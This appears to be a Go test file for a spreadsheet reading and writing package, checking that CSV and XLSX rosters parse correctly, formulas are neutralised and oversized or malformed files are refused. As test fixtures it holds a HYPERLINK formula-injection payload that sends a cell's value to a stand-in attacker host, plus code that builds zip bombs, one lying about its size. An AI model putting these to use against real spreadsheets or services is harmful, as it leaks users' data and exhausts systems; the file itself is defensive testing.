package sheet

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"hash/crc32"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"gridskill"
)

func mustRead(t *testing.T, data []byte, name string, lim Limits) *Table {
	t.Helper()
	tab, err := Read(bytes.NewReader(data), name, lim)
	if err != nil {
		t.Fatalf("Read(%s): %v", name, err)
	}
	return tab
}

// lines returns each data row's line number and first cell.
func lines(tab *Table) []string {
	var out []string
	for _, r := range tab.Rows {
		out = append(out, strconv.Itoa(r.Line)+":"+r.Cell(0))
	}
	return out
}

func TestReadCSV(t *testing.T) {
	t.Run("WithBOM", func(t *testing.T) {
		tab := mustRead(t, []byte("\uFEFF姓名,手机号\n张三,13912345678\n"), "a.csv", DefaultLimits())
		if tab.Col("姓名") != 0 || tab.Col("手机号") != 1 || len(tab.Rows) != 1 || tab.Rows[0].Cell(1) != "13912345678" {
			t.Fatalf("header %q rows %v", tab.Header, tab.Rows)
		}
	})
	t.Run("WithoutBOMAndCRLF", func(t *testing.T) {
		tab := mustRead(t, []byte("姓名 , 手机号\r\n 张三 ,13912345678\r\n"), "A.CSV", DefaultLimits())
		if tab.Col("手机号") != 1 || tab.Rows[0].Cell(0) != "张三" {
			t.Fatalf("header %q rows %v", tab.Header, tab.Rows)
		}
	})
	t.Run("BlankRowsSkippedLineNumbersKept", func(t *testing.T) {
		// An empty line and a line of empty cells are both rows in a
		// spreadsheet; a quoted cell over two lines is one row.
		csv := "姓名,备注\n甲,1\n\n乙,2\n,,\n丙,\"两\n行\"\n丁,4\n"
		tab := mustRead(t, []byte(csv), "a.csv", DefaultLimits())
		want := []string{"2:甲", "4:乙", "6:丙", "7:丁"}
		if got := lines(tab); !slices.Equal(got, want) {
			t.Fatalf("rows %v, want %v", got, want)
		}
		if tab.Rows[2].Cell(1) != "两\n行" {
			t.Fatalf("multi-line cell %q", tab.Rows[2].Cell(1))
		}
	})
	t.Run("LeadingBlankLinesBeforeHeader", func(t *testing.T) {
		tab := mustRead(t, []byte("\n\n姓名\n甲\n"), "a.csv", DefaultLimits())
		if got := lines(tab); !slices.Equal(got, []string{"4:甲"}) {
			t.Fatalf("rows %v", got)
		}
	})
	t.Run("ShortRowsReadAsEmptyCells", func(t *testing.T) {
		tab := mustRead(t, []byte("a,b,c\n1\n"), "a.csv", DefaultLimits())
		if tab.Rows[0].Cell(2) != "" || tab.Rows[0].Cell(-1) != "" {
			t.Fatal("missing cells are not empty")
		}
	})
}

func TestFormulaTextStaysText(t *testing.T) {
	const hostile = `=HYPERLINK("http://evil.example/?x="&A1,"点击领取补贴")`
	tab := mustRead(t, []byte("姓名,备注\n"+`"=HYPERLINK(""http://evil.example/?x=""&A1,""点击领取补贴"")",`+"-5\n"), "a.csv", DefaultLimits())
	if got := tab.Rows[0].Cell(0); got != hostile {
		t.Fatalf("read %q, want the plain text %q", got, hostile)
	}

	t.Run("CSVNeutralizedAndRoundTrips", func(t *testing.T) {
		var buf bytes.Buffer
		row := []string{hostile, "+1", "-5", "@SUM(A1)", "\tx", "plain", "'quoted"}
		if err := WriteCSV(&buf, []string{"a", "b", "c", "d", "e", "f", "g"}, [][]string{row}); err != nil {
			t.Fatal(err)
		}
		out := buf.String()
		if !strings.HasPrefix(out, "\uFEFF") {
			t.Fatal("no byte-order mark")
		}
		if !strings.Contains(out, `"'=HYPERLINK(`) || !strings.Contains(out, "'+1") || !strings.Contains(out, "'@SUM") || strings.Contains(out, "'plain") {
			t.Fatalf("cells not neutralized: %s", out)
		}
		back := mustRead(t, buf.Bytes(), "back.csv", DefaultLimits())
		if !slices.Equal(back.Rows[0].Cells, row) {
			t.Fatalf("round trip:\n got %q\nwant %q", back.Rows[0].Cells, row)
		}
	})
	t.Run("XLSXWrittenAsTextNotFormula", func(t *testing.T) {
		var buf bytes.Buffer
		if err := WriteXLSX(&buf, "花名册", []string{"姓名"}, [][]string{{hostile}, {"=1+1"}}); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		for cell, want := range map[string]string{"A1": "姓名", "A2": hostile, "A3": "=1+1"} {
			if formula, _ := f.GetCellFormula("花名册", cell); formula != "" {
				t.Errorf("%s holds the formula %q", cell, formula)
			}
			if v, _ := f.GetCellValue("花名册", cell); v != want {
				t.Errorf("%s = %q, want %q", cell, v, want)
			}
		}
	})
}

// workbook builds an XLSX with excelize, as a person's Excel would save it.
func workbook(t *testing.T, build func(f *excelize.File, sheet string)) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	build(f, "Sheet1")
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestReadXLSX(t *testing.T) {
	data := workbook(t, func(f *excelize.File, sh string) {
		_ = f.SetSheetRow(sh, "A1", &[]any{" 姓名 ", "手机号", "入职日期", "公式"})
		_ = f.SetSheetRow(sh, "A2", &[]any{"张三", 13912345678, "2024-03-01"})
		// Row 3 left empty; row 4 has a real date cell and a formula.
		_ = f.SetSheetRow(sh, "A4", &[]any{"李四", "13912345679"})
		_ = f.SetCellValue(sh, "C4", 45352.0) // 2024-03-01 as Excel counts days
		style, _ := f.NewStyle(&excelize.Style{NumFmt: 14})
		_ = f.SetCellStyle(sh, "C4", "C4", style)
		_ = f.SetCellFormula(sh, "D4", "1+1")
		_ = f.SetSheetRow(sh, "A5", &[]any{"", " "})
		_ = f.SetSheetRow(sh, "A6", &[]any{"王五"})
	})
	tab := mustRead(t, data, "roster.XLSX", DefaultLimits())
	if tab.Col("姓名") != 0 || tab.Col("公式") != 3 {
		t.Fatalf("header %q", tab.Header)
	}
	if got := lines(tab); !slices.Equal(got, []string{"2:张三", "4:李四", "6:王五"}) {
		t.Fatalf("rows %v", got)
	}
	if got := tab.Rows[0].Cell(1); got != "13912345678" {
		t.Errorf("a number cell reads %q", got)
	}
	if got := tab.Rows[1].Cell(2); got != "45352" {
		t.Errorf("a date cell reads %q, want its raw serial", got)
	}
	if got := tab.Rows[1].Cell(3); got == "2" {
		t.Errorf("a formula was evaluated")
	}
}

// xlsxWithSheet returns a workbook whose first sheet's XML is replaced by
// sheetXML; declared, when non-zero, is the uncompressed size its zip header
// claims (a lie, for a bomb that hides its size).
func xlsxWithSheet(t *testing.T, sheetXML []byte, declared uint64) []byte {
	t.Helper()
	base := workbook(t, func(f *excelize.File, sh string) { _ = f.SetCellValue(sh, "A1", "姓名") })
	zr, err := zip.NewReader(bytes.NewReader(base), int64(len(base)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range zr.File {
		if f.Name == "xl/worksheets/sheet1.xml" {
			continue
		}
		w, _ := zw.Create(f.Name)
		rc, _ := f.Open()
		_, _ = io.Copy(w, rc)
		rc.Close()
	}
	var deflated bytes.Buffer
	fw, _ := flate.NewWriter(&deflated, flate.BestCompression)
	_, _ = fw.Write(sheetXML)
	_ = fw.Close()
	size := uint64(len(sheetXML))
	if declared != 0 {
		size = declared
	}
	w, err := zw.CreateRaw(&zip.FileHeader{
		Name: "xl/worksheets/sheet1.xml", Method: zip.Deflate, CRC32: crc32.ChecksumIEEE(sheetXML),
		CompressedSize64: uint64(deflated.Len()), UncompressedSize64: size,
	})
	if err != nil {
		t.Fatal(err)
	}
	_, _ = w.Write(deflated.Bytes())
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// bombSheet is a sheet of n identical rows: megabytes that deflate to kilobytes.
func bombSheet(n int) []byte {
	var b bytes.Buffer
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`)
	row := `<row><c t="inlineStr"><is><t>` + strings.Repeat("A", 200) + `</t></is></c></row>`
	for range n {
		b.WriteString(row)
	}
	b.WriteString(`</sheetData></worksheet>`)
	return b.Bytes()
}

func TestHostileFilesRefused(t *testing.T) {
	small := Limits{MaxBytes: 64 << 10, MaxUnzipped: 4 << 20, MaxRows: 100, MaxCell: 50}
	bomb := bombSheet(30_000) // about 7 MB unpacked
	// 姓名,手机号 in GBK, as Excel saves "CSV" on a Chinese Windows.
	gbk := []byte{0xd0, 0xd5, 0xc3, 0xfb, ',', 0xca, 0xd6, 0xbb, 0xfa, 0xba, 0xc5, '\n'}
	cases := []struct {
		name, file string
		data       []byte
		want       string
	}{
		{"ZipBomb", "bomb.xlsx", xlsxWithSheet(t, bomb, 0), "the workbook unpacks to more than 4 MB"},
		// The zip reader stops at the declared size, so the lie only truncates the sheet.
		{"ZipBombLyingAboutItsSize", "bomb.xlsx", xlsxWithSheet(t, bomb, 1000), ""},
		{"OverSizeCap", "big.csv", bytes.Repeat([]byte("a,b\n"), 20<<10), "the file is larger than 0 MB"},
		{"TooManyCSVRows", "rows.csv", []byte("h\n" + strings.Repeat("x\n", 101)), "the file has more than 100 rows"},
		{"TooManyXLSXRows", "rows.xlsx", xlsxWithSheet(t, bombSheet(102), 0), "the file has more than 100 rows"},
		{"NeitherUTF8NorGBK", "bad.csv", []byte{'h', '\n', 0xff, 0xfe, 0x80, '\n'}, `the CSV file is neither UTF-8 nor GBK text; save it as "CSV UTF-8" or upload the .xlsx`},
		{"NotAZip", "fake.xlsx", []byte("PK\x03\x04 not really"), "the file is not a valid .xlsx workbook"},
		{"OldExcel", "roster.xls", []byte{0xd0, 0xcf, 0x11, 0xe0}, `this is an old Excel (.xls) file; open it in Excel or WPS, choose Save As, pick "Excel Workbook (*.xlsx)" and upload that file`},
		{"OldExcelRenamed", "roster.xlsx", []byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0}, `this is an old Excel (.xls) file; open it in Excel or WPS, choose Save As, pick "Excel Workbook (*.xlsx)" and upload that file`},
		{"NoExtension", "roster", []byte("a,b\n"), "please upload a .xlsx or .csv file"},
		{"Empty", "empty.csv", []byte("\uFEFF\n,,\n"), "the file is empty"},
		{"LongCell", "long.csv", []byte("h\n" + strings.Repeat("长", 51) + "\n"), "row 2 column 1 is longer than 50 characters"},
		{"NULInCSV", "nul.csv", []byte("h,g\nok,a\x00b\n"), "row 2 column 2: contains a control character (U+0000) that is not allowed"},
		{"EscapeInCSV", "esc.csv", []byte("h\n\x1b[2J\n"), "row 2 column 1: contains a control character (U+001B) that is not allowed"},
		{"BidiOverrideInCSV", "bidi.csv", []byte("h\n\u202eabc\n"), "row 2 column 1: contains a control character (U+202E) that is not allowed"},
		// Excel writes a control character in a cell as an _x0007_ escape, which readers decode.
		{"ControlInXLSX", "ctl.xlsx", xlsxOfRows(t, [][]string{{"h", "g"}, {"ok", "a_x0007_b"}}), "row 2 column 2: contains a control character (U+0007) that is not allowed"},
		{"ControlInXLSXHeader", "ctl.xlsx", xlsxOfRows(t, [][]string{{"h_x0001_"}, {"ok"}}), "row 1 column 1: contains a control character (U+0001) that is not allowed"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			tab, err := Read(bytes.NewReader(tc.data), tc.file, small)
			if gridskill.ErrorCode(err) != gridskill.EINVALID || tc.want != "" && gridskill.ErrorMessage(err) != tc.want {
				t.Fatalf("Read = %v, %v; want invalid %q", tab, err, tc.want)
			}
		})
	}
	t.Run("GBKIsReadAsChinese", func(t *testing.T) {
		tab, err := Read(bytes.NewReader(gbk), "gbk.csv", small)
		if err != nil || strings.Join(tab.Header, ",") != "姓名,手机号" {
			t.Fatalf("GBK CSV read as %v, %v", tab, err)
		}
	})
	t.Run("BlankRowsDoNotCountAgainstTheLimit", func(t *testing.T) {
		data := []byte("h\n" + strings.Repeat(",\n", 500) + strings.Repeat("x\n", 100))
		if tab := mustRead(t, data, "a.csv", small); len(tab.Rows) != 100 {
			t.Fatalf("%d rows", len(tab.Rows))
		}
	})
}

// FuzzReadCSV: any bytes give a table or an invalid error, never a panic,
// and rows come in file order with numbers past the header's.
func FuzzReadCSV(f *testing.F) {
	for _, seed := range []string{"姓名,手机号\n张三,139\n", "\uFEFFa\n\n\"b\nc\"\n,,\n", "a,\"b\n", "=1+1,'=2\n", "\xff\xfe"} {
		f.Add([]byte(seed))
	}
	lim := Limits{MaxBytes: 1 << 16, MaxUnzipped: 1 << 20, MaxRows: 50, MaxCell: 100}
	f.Fuzz(func(t *testing.T, data []byte) {
		tab, err := Read(bytes.NewReader(data), "f.csv", lim)
		if err != nil {
			if gridskill.ErrorCode(err) != gridskill.EINVALID {
				t.Fatalf("error code %s: %v", gridskill.ErrorCode(err), err)
			}
			return
		}
		prev := 0
		for _, r := range tab.Rows {
			if r.Line <= prev || blank(r.Cells) {
				t.Fatalf("row %d after %d, cells %q", r.Line, prev, r.Cells)
			}
			prev = r.Line
		}
	})
}

// xlsxOfRows builds a real workbook with excelize holding rows on its first sheet.
func xlsxOfRows(t *testing.T, rows [][]string) []byte {
	t.Helper()
	f := excelize.NewFile()
	for i, row := range rows {
		for j, v := range row {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if err := f.SetCellStr("Sheet1", cell, v); err != nil {
				t.Fatal(err)
			}
		}
	}
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestWriteSheetsKeepsEverySheetInOrder(t *testing.T) {
	var buf bytes.Buffer
	err := WriteSheets(&buf, Sheet{Name: "成绩", Header: []string{"姓名"}, Rows: [][]string{{"张晓婷"}}},
		Sheet{Name: "未参考", Header: []string{"网格"}, Rows: [][]string{{"第一网格"}, {"=1+1"}}})
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); !slices.Equal(got, []string{"成绩", "未参考"}) {
		t.Fatalf("sheets %v", got)
	}
	for _, c := range []struct{ sheet, cell, want string }{{"成绩", "A2", "张晓婷"}, {"未参考", "A1", "网格"}, {"未参考", "A3", "=1+1"}} {
		if v, _ := f.GetCellValue(c.sheet, c.cell); v != c.want {
			t.Errorf("%s!%s = %q, want %q", c.sheet, c.cell, v, c.want)
		}
		if formula, _ := f.GetCellFormula(c.sheet, c.cell); formula != "" {
			t.Errorf("%s!%s holds the formula %q", c.sheet, c.cell, formula)
		}
	}
	if err := WriteSheets(&bytes.Buffer{}); err == nil {
		t.Error("a workbook of no sheet was written")
	}
}
